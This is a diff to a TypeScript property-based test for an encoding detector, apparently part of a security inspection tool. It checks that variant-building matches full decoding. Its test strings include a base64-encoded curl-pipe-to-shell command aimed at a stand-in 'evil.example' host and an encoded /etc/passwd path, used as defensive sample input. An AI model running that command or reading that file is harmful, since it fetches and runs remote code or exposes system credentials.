@@ -4,6 +4,8 @@
  * random text rich in what decoders look for, buildVariants equals decoding every way, and
  * text the shortcut passes decodes to nothing.
  */
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_NORMALIZE_LIMITS } from '../../../src/inspect/normalize/index.js';
@@ -11,7 +13,7 @@ import { buildVariants, decodeEveryWay, mayBeEncoded } from '../../../src/inspec
 
 const pieces = ['%', '%2e', '%252f', '&', '&amp;', '&#46;', '\\', '\\x2e', '\\u002e', '0x2e', '0X2F', 'x', '0', '+', '=', '-', '_', '/', ' ', '\t', '\n',
   'aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=', 'Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g', '68656c6c6f20776f726c6421', 'SignatureCheckMode', 'abcdefghijklmno', 'abcdefghijklmnop',
-  '\u200b', 'Ａ', '\u00e9', '\udb40\udc41', '\ufe0f', '\x01', '\x7f', 'ﬁ', '12345678901234567'];
+  '/srv/data/reports/2026-q3.md', 'L2V0Yy9wYXNzd2Q', '/home/user/L2V0Yy9wYXNzd2Q=/x', 'ZWNobyBoaQ==', 'deadbeefdeadbeef00', '2026-01-01', '\u200b', 'Ａ', '\u00e9', '\udb40\udc41', '\ufe0f', '\x01', '\x7f', 'ﬁ', '12345678901234567'];
 const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 }), fc.string({ unit: 'binary', maxLength: 3 })), { maxLength: 10 }).map((p) => p.join(''));
 
 describe('spellings only where the text has the marks of an encoding', () => {
@@ -23,6 +25,34 @@ describe('spellings only where the text has the marks of an encoding', () => {
       }),
       { numRuns: 3000 },
     );
+  });
+
+  // Text whose only marks are base64-shaped runs is read by the blob decoder alone first.
+  it('blob-shaped runs alone: decoded every way when the blob decoder finds something, else no spelling', () => {
+    expect(mayBeEncoded('/srv/data/reports/2026-q3.md')).toBe(true);
+    expect(buildVariants('/srv/data/reports/2026-q3.md', DEFAULT_NORMALIZE_LIMITS)).toEqual([]);
+    for (const raw of ['/srv/data/reports/2026-q3.md', 'run aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ= now', 'cat /tmp/L2V0Yy9wYXNzd2Q/x', 'id 68656c6c6f20776f726c6421', 'Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g']) {
+      expect(buildVariants(raw, DEFAULT_NORMALIZE_LIMITS), raw).toEqual(decodeEveryWay(raw, DEFAULT_NORMALIZE_LIMITS));
+    }
+    expect(buildVariants('run aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ= now', DEFAULT_NORMALIZE_LIMITS).length).toBeGreaterThan(0);
+  });
+
+  const corpora = [process.env.VANGUARD_CORPORA, '/work/shared/corpora', path.resolve('../shared/corpora')].find((d) => d !== undefined && existsSync(d));
+  it.skipIf(corpora === undefined)('buildVariants equals decoding every way on every corpus string', () => {
+    const strings = (v: unknown): string[] => (typeof v === 'string' ? [v] : Array.isArray(v) ? v.flatMap(strings) : typeof v === 'object' && v !== null ? Object.entries(v).flatMap(([k, x]) => [k, ...strings(x)]) : []);
+    let checked = 0;
+    for (const file of readdirSync(corpora!).filter((f) => f.endsWith('.jsonl'))) {
+      for (const line of readFileSync(path.join(corpora!, file), 'utf8').split('\n')) {
+        if (!line.trim()) continue;
+        const item = JSON.parse(line) as Record<string, unknown>;
+        for (const raw of strings([item.args, item.text, item.result])) {
+          if (raw.length > 4096) continue;
+          checked++;
+          expect(buildVariants(raw, DEFAULT_NORMALIZE_LIMITS), raw).toEqual(decodeEveryWay(raw, DEFAULT_NORMALIZE_LIMITS));
+        }
+      }
+    }
+    expect(checked).toBeGreaterThan(1000);
   });
 
   it('passes ordinary arguments and stops at each mark', () => {
